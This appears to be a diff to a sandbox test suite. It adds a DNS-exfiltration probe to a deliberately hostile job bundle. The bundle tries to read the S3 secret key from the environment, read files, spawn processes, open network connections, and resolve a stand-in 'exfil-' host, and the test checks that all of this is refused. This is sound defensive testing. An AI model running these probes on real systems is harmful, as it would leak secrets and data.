@@ -1,7 +1,8 @@
 /**
  * A hostile bundle on a real worker: as it loads, it tries to start a process and a worker thread, reads the
  * worker's secrets from its environment, reads a file of the machine's, lists the other job hosts' folders, writes
- * outside its own, and connects to Postgres, S3 and the platform's Kafka listener (TCP) and a DNS server (UDP). The job host runs under Node's permission model in a folder of its own with an allow-list
+ * outside its own, connects to Postgres, S3 and the platform's Kafka listener (TCP) and a DNS server (UDP), and
+ * resolves a name of its choosing (a DNS query carries data out). The job host runs under Node's permission model in a folder of its own with an allow-list
  * environment (apps/worker/src/jobs/job-host-forks.ts, job-host-env.ts): all of it is refused but writing in its own
  * folder, and the secret is not there. The bundle reports what it met by failing to load, which the worker answers with a refused run.
  */
@@ -21,6 +22,7 @@ const S3 = new URL(process.env.WEIR_S3_ENDPOINT ?? 'http://127.0.0.1:4568');
 const jobSource = `
 import { execSync } from 'node:child_process';
 import { createSocket } from 'node:dgram';
+import { lookup, resolve4 } from 'node:dns';
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { connect } from 'node:net';
 import { dirname } from 'node:path';
@@ -39,6 +41,8 @@ try { connect(5432, '127.0.0.1').on('error', () => undefined); met.postgres = 'r
 try { connect(${PLATFORM_KAFKA_PORT}, '${PLATFORM_KAFKA_HOST}').on('error', () => undefined); met.platformKafka = 'ran'; } catch (err) { met.platformKafka = err.code ?? err.message; }
 met.kafkaEnv = Object.keys(process.env).filter((name) => name.startsWith('WEIR_KAFKA'));
 try { connect(${S3.port || 80}, '${S3.hostname}').on('error', () => undefined); met.s3 = 'ran'; } catch (err) { met.s3 = err.code ?? err.message; }
+try { resolve4('exfil-${run}.example.com', () => undefined); met.dnsQuery = 'ran'; } catch (err) { met.dnsQuery = err.code ?? err.message; }
+try { lookup('exfil-${run}.example.com'); met.dnsLookup = 'ran'; } catch (err) { met.dnsLookup = err.code ?? err.message; }
 try { createSocket('udp4').send('x', 53, '8.8.8.8'); met.udp = 'ran'; } catch (err) { met.udp = err.code ?? err.message; }
 met.s3Secret = process.env.WEIR_S3_SECRET_ACCESS_KEY ?? null;
 try { writeHeapSnapshot(); met.snapshot = 'ran'; } catch (err) { met.snapshot = err.code ?? err.message; }
@@ -67,13 +71,13 @@ describe('a hostile bundle at the job host', () => {
     else process.env.WEIR_PG_URL = saved;
   });
 
-  it('cannot spawn a process or a thread, read or write outside its folder, connect but to Kafka and S3, or find a secret in its environment', async () => {
+  it("cannot spawn a process or a thread, read or write outside its folder, connect but to its tenant's Kafka listener, resolve names, or find a secret in its environment", async () => {
     const command = fixture.runCommand({ maxParallelism: 8, subtasks: [{ operatorId: 'in', subtask: 0, keyGroups: [] }] });
     const failure = await fixture.app.supervisor.run(command).then(() => null, (err: Error) => err.message);
     const met = JSON.parse(/hostile bundle met (\{.*?\})/.exec(failure ?? '')?.[1] ?? 'null') as Record<string, unknown> | null;
     expect(met).toEqual({
       pg: null, spawn: 'ERR_ACCESS_DENIED', thread: 'ERR_ACCESS_DENIED', read: 'ERR_ACCESS_DENIED', neighbours: 'ERR_ACCESS_DENIED', write: 'ERR_ACCESS_DENIED', own: 'ran',
-      postgres: 'ERR_ACCESS_DENIED', platformKafka: 'ERR_ACCESS_DENIED', kafkaEnv: [], s3: 'ERR_ACCESS_DENIED', udp: 'ERR_ACCESS_DENIED', s3Secret: null, snapshot: 'ERR_ACCESS_DENIED',
+      postgres: 'ERR_ACCESS_DENIED', platformKafka: 'ERR_ACCESS_DENIED', kafkaEnv: [], s3: 'ERR_ACCESS_DENIED', dnsQuery: 'ERR_ACCESS_DENIED', dnsLookup: 'ERR_ACCESS_DENIED', udp: 'ERR_ACCESS_DENIED', s3Secret: null, snapshot: 'ERR_ACCESS_DENIED',
     });
     expect(fixture.app.supervisor.runningSubtasks()).toEqual([]);
   });
